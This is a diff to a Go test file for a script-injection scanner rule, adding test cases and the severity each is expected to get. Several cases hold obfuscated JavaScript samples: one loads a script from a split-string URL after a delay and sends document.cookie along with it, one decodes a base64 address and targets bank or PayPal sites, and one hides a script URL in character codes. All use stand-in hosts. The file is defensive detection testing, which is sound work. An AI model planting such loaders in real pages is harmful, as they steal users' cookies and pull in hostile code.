@@ -59,6 +59,10 @@ self.addEventListener("install", e => e.waitUntil(fetch("https://cdn.example.inv
 
 func TestScriptInjection(t *testing.T) {
 	rt.Check(t, ScriptInjection{}, []rt.Case{
+		// the element's names joined from pieces; a consent-gated loader
+		// naming its calls plainly
+		{"split_names", map[string]string{"index.js": "const w = window, d = w['doc' + 'ument']; setTimeout(() => { const el = d['create' + 'Element']('scr' + 'ipt'); el.src = location.protocol + parts.join('') + '?c=' + encodeURIComponent(d.cookie); d.head.appendChild(el) }, 9000)"}, finding.SeverityCritical},
+		{"consent_loader", map[string]string{"index.js": "if (/consent=yes/.test(document.cookie)) { const el = document.createElement('script'); el.src = cfg.base + '/tag.js'; document.head.appendChild(el) }"}, finding.SeverityNone},
 		{"decoded_src", map[string]string{"index.js": `const U = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9saWIvcy5qcw==";
 export function boot() { if (!/bank|paypal/i.test(location.hostname)) return; const s = document.createElement("script"); s.src = atob(U); document.head.appendChild(s) }`}, finding.SeverityCritical},
 		{"char_codes_write", map[string]string{"index.js": `document.write("<script src='" + String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,97,46,106,115) + "'></scr" + "ipt>")`}, finding.SeverityCritical},
